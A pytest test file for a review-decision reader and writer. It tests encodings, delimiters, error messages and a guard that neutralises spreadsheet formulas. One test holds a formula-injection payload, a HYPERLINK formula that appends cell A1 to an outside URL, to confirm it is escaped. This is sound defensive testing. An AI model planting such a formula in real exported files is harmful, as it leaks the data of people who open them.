"""Files that people decide in: whatever a spreadsheet makes of them, they say the same."""

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobs.review_file import COLUMNS, DECISIONS, ReviewError, guarded, read_choices, unguarded, write_table

TEXT = 'label_id,decision,reviewer,note\na-1,accept,Zoë,fine\na-2,,,\na-3,REJECT,,"two\nlines; and, more"\n'


@given(st.text(alphabet="'=+-@ \t\r\nab\uff1d", max_size=6) | st.text(max_size=6))
def test_the_guard_against_formulas_is_undone_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).lstrip(" \xa0").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize(
    "data",
    [
        TEXT.encode(),
        TEXT.encode("utf-8-sig"),
        TEXT.encode("utf-16"),
        TEXT.encode("cp1252"),
        TEXT.replace(",", ";").replace("; and; more", "; and, more").encode("cp1252"),
        ("sep=;\n" + TEXT.replace(",", ";").replace("; and; more", "; and, more")).encode("utf-8-sig"),
        TEXT.replace(",", "\t").replace("; and\t more", "; and, more").encode(),
        TEXT.replace("label_id", " Label_ID ").encode(),
    ],
    ids=["plain", "mark", "utf-16", "western", "semicolons", "sep line", "tabs", "capitals"],
)
def test_what_spreadsheets_save_says_the_same(data: bytes, tmp_path: Path) -> None:
    (tmp_path / "decided.csv").write_bytes(data)
    choices = read_choices(str(tmp_path / "decided.csv"))
    found = [(choice.label_id, choice.decision, choice.reviewer, choice.note) for choice in choices.made]
    assert found == [("a-1", "accept", "Zoë", "fine"), ("a-3", "reject", "", "two\nlines; and, more")]
    assert choices.undecided == 1
    first = 3 if data.startswith("sep".encode("utf-8-sig")) else 2
    assert [choice.where for choice in choices.made] == [f"line {first}", f"line {first + 2}"]


def test_json_says_the_same_as_csv(tmp_path: Path) -> None:
    rows = [{"label_id": "a-1", "decision": "accept", "note": None}, {"label_id": "a-2", "decision": ""}]
    for content in (rows, {"decisions": rows}):
        (tmp_path / "decided.json").write_text(json.dumps(content))
        choices = read_choices(str(tmp_path / "decided.json"))
        assert [(choice.label_id, choice.decision) for choice in choices.made] == [("a-1", "accept")]
        assert choices.undecided == 1


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"PK\x03\x04 and so on", "is a workbook"),
        (b"label_id,decision\n\x00\x00,accept\n", "is not text"),
        (b"\x81\x8d\x8f\x90\x9d", "is not text"),
        (b"label_id,decision\na,accept,b,c\n", "line 2: 4 cells under 2 columns"),
        (b"label_id,decision,decision\na,accept,reject\n", "column decision is there more than once"),
        (b"[" * 100_000, "not JSON"),
        (b'{"label": "a"}', "neither a list"),
    ],
)
def test_what_is_no_such_file_is_told(data: bytes, words: str, tmp_path: Path) -> None:
    (tmp_path / "decided.csv").write_bytes(data)
    with pytest.raises(ReviewError, match=words):
        read_choices(str(tmp_path / "decided.csv"))


def test_a_file_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(ReviewError, match="cannot be read: No such file"):
        read_choices(str(tmp_path / "none.csv"))
    with pytest.raises(ReviewError, match="cannot be written"):
        write_table(str(tmp_path / "none" / "labels.csv"), [])


def test_hostile_cells_are_no_formulas_and_come_back_as_they_were(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://example.org/?"&A1)'
    path = tmp_path / "labels.csv"
    row = {"label_id": "a-1", "question": hostile, "decision": "keep", "note": "-1 for this", "text": "x" * 50_000}
    assert write_table(str(path), [row]) == 1
    with path.open(encoding="utf-8-sig", newline="") as file:
        (cells,) = csv.DictReader(file)
    assert list(cells) == list(COLUMNS)
    assert cells["question"] == "'" + hostile
    assert len(cells["text"]) == 32_000
    (choice,) = read_choices(str(path)).made
    assert choice.note == "-1 for this"


def test_words_for_both_decisions_are_known() -> None:
    assert {DECISIONS[word] for word in ("accept", "keep", "yes", "ok")} == {"accept"}
    assert {DECISIONS[word] for word in ("reject", "drop", "no")} == {"reject"}
